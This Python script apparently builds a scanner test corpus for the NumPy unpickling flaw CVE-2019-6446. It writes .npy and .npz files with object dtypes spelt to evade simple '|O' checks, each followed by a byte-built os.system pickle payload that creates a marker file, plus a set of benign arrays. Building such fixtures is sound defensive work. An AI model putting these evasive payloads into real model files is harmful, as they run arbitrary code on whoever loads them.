"""Builds the NumPy array corpus (CVE-2019-6446: numpy.load(allow_pickle=True) unpickles whatever
follows the header of an array whose dtype holds Python objects).

- malicious/: `.npy` headers written byte by byte whose dtype has an object part spelt in ways a
  scanner matching only `'|O'` misses, each followed by a byte-built pickle (the classic
  os.system REDUCE, creating MODELPACK_PWNED in the current directory), and an `.npz` holding one.
  Nothing here pickles a malicious object or loads a file; ../pickles/verify_payloads.py proves each
  one with numpy.load(allow_pickle=True) in a temporary directory.
- benign/: arrays saved by numpy.save itself (no object dtype: no pickle follows the header).

    python3 make_arrays.py      # the malicious half needs only the stdlib; benign/ needs numpy
"""
import io
import struct
import zipfile
from pathlib import Path

HERE = Path(__file__).resolve().parent
MAGIC = b"\x93NUMPY"
FIXED_DATE = (1980, 1, 1, 0, 0, 0)
# The classic REDUCE, byte by byte: os.system("touch MODELPACK_PWNED").
CMD = b"touch MODELPACK_PWNED"
PAYLOAD = b"\x80\x02" + b"cos\nsystem\n" + b"\x8c" + bytes([len(CMD)]) + CMD + b"\x85R."


def npy(descr: str, shape=(1,), version=(1, 0)) -> bytes:
    """An .npy header as numpy.lib.format writes it: a dict literal padded with spaces and ended by
    a newline so that the data starts on a 64-byte boundary; v1 has a u16 length, v2 a u32."""
    header = "{'descr': %s, 'fortran_order': False, 'shape': %r, }" % (descr, shape)
    size_bytes = 2 if version == (1, 0) else 4
    prefix = len(MAGIC) + 2 + size_bytes
    padded = header + " " * (-(prefix + len(header) + 1) % 64) + "\n"
    size = struct.pack("<H" if size_bytes == 2 else "<I", len(padded))
    return MAGIC + bytes(version) + size + padded.encode("latin1")


MALICIOUS = {
    # dtype spelt 'object' (numpy.dtype('object')), not '|O'
    "object_dtype_spelt_object.npy": npy("'object'") + PAYLOAD,
    # a structured dtype with one object field: dtype.hasobject is true, so the data is a pickle
    "structured_object_field.npy": npy("[('a', '<i8'), ('b', '|O')]") + PAYLOAD,
    # a field whose type is a subarray of objects ('O', (2,))
    "subarray_object_field.npy": npy("[('a', '|O', (2,))]") + PAYLOAD,
    # the plain '|O' dtype in a format 2.0 header (u32 header length) that v1-only parsers misread
    "object_dtype_npy_v2.npy": npy("'|O'", version=(2, 0)) + PAYLOAD,
}


def npz(members: dict) -> bytes:
    """An .npz as numpy.savez writes it (a stored zip of NAME.npy members), with fixed dates."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as z:
        for name, data in members.items():
            info = zipfile.ZipInfo(name, FIXED_DATE)
            info.external_attr = 0o600 << 16
            z.writestr(info, data)
    return buffer.getvalue()


# an .npz whose "weights" member is the 'object'-spelt array: the payload runs on npz["weights"]
MALICIOUS["object_array_in.npz"] = npz({"weights.npy": MALICIOUS["object_dtype_spelt_object.npy"]})


def benign() -> None:
    import numpy as np

    out = HERE / "benign"
    out.mkdir(exist_ok=True)
    for old in out.iterdir():
        old.unlink()
    rng = np.random.default_rng(0)
    np.save(out / "float64_matrix.npy", rng.standard_normal((4, 3)))  # plain float64
    structured = np.array([(1.5, 1), (2.5, 2)], dtype=[("x", "<f4"), ("y", "<i4")])
    np.save(out / "structured_numeric.npy", structured)  # fields, none of them objects
    np.save(out / "unicode_strings.npy", np.array(["alpha", "beta", "gamma"]))  # '<U5', not object
    print(f"wrote {len(list(out.iterdir()))} benign arrays with numpy {np.__version__}")


def main() -> None:
    out = HERE / "malicious"
    out.mkdir(exist_ok=True)
    for old in out.iterdir():
        old.unlink()
    for name, data in MALICIOUS.items():
        (out / name).write_bytes(data)
    print(f"wrote {len(MALICIOUS)} malicious arrays")
    benign()


if __name__ == "__main__":
    main()
